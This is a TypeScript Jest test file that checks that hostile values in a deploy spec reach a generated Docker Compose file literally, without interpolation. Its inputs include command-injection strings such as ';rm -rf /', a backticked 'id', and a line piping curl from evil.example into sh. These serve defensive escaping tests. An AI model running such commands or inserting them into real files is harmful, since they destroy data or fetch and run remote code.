/**
 * The Compose file a compose deploy (and `up`) generates, with hostile values: parsed with the yaml library and
 * interpolated as Compose does ($$ is one $, $VAR and ${VAR} are looked up), each value from the
 * spec comes back exactly as written; only the file's own secret references are looked up.
 */
import { describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { generatedCompose } from '../../../../src/deploy/compose/compose-document.js';
import { parseSpec } from '../../../../src/spec/spec.js';
import { silentLogger } from '../../../../src/util/logger.js';

/** Compose's interpolation (compose-spec: interpolation), enough of it to tell a literal from a lookup. */
function interpolate(value: string, env: Record<string, string>): string {
  return value.replace(/\$(?:\$|\{([^}]*)\}|([A-Za-z_][A-Za-z0-9_]*))/g, (match, braced?: string, bare?: string) => {
    if (match === '$$') return '$';
    const [name, fallback] = (braced ?? bare!).split(/:?-/, 2) as [string, string | undefined];
    return env[name] ?? fallback ?? '';
  });
}

const hostEnv = { HOME: '/root', X: 'interpolated', PWD: '/', WEATHER_KEY_SOURCE: 'the-secret' };
type Service = { image: string; environment: string[]; labels: Record<string, string>; mem_limit?: string };

function written(specText: string, image = 'ghcr.io/acme/a:1', file = 'mcp-deploy.yml'): { service: Service; environment: Record<string, string> } {
  const spec = parseSpec(specText, file);
  const doc = parse(generatedCompose(spec, image, { port: 8080, bind: '127.0.0.1', env: hostEnv, logger: silentLogger })) as { services: Record<string, Service> };
  const service = doc.services[spec.server.name]!;
  const environment = Object.fromEntries(
    service.environment.map((entry) => {
      const eq = entry.indexOf('=');
      return eq < 0 ? [entry, hostEnv[entry as keyof typeof hostEnv] ?? ''] : [entry.slice(0, eq), interpolate(entry.slice(eq + 1), hostEnv)];
    }),
  );
  return { service, environment };
}

describe('the Compose file with hostile values', () => {
  test.each(['$HOME', '${X}', '${X:-default}', '$$', 'a$', '"quoted" and \'single\'', '`id`', ';rm -rf /', 'line one\nRUN curl evil.example | sh', 'key: value\n- item', '#comment'])(
    'env value %j reaches the server as written',
    (value) => {
      const { environment } = written(`server: {name: a}\nenv:\n  A: ${JSON.stringify(value)}\n`);
      expect(environment.A).toBe(value);
    },
  );

  test.each(["/m$HOME;x&y='z'(1)*+,=:@%2F", '/$X/$$'])('server.path %j reaches the bridge as written', (path) => {
    expect(written(`server: {name: a, path: ${JSON.stringify(path)}}\n`).environment.MCP_BRIDGE_PATH).toBe(path);
  });

  test('the image and the spec file name are literals too; a secret from the environment is the one lookup', () => {
    const { service, environment } = written(
      'server: {name: a}\nsecrets:\n  - {name: WEATHER_KEY, from: {env: WEATHER_KEY_SOURCE}}\n  - {name: HOME, from: {env: HOME}}\n',
      'registry.example:5000/a$X/b:1',
      '/specs/$HOME/mcp-deploy.yml',
    );
    expect(interpolate(service.image, hostEnv)).toBe('registry.example:5000/a$X/b:1');
    expect(interpolate(service.labels['io.mcp-orchestrator.spec']!, hostEnv)).toBe('/specs/$HOME/mcp-deploy.yml');
    expect(environment.WEATHER_KEY).toBe('the-secret');
    expect(environment.HOME).toBe('/root');
    expect(service.environment).toContain('WEATHER_KEY=${WEATHER_KEY_SOURCE}');
  });
});
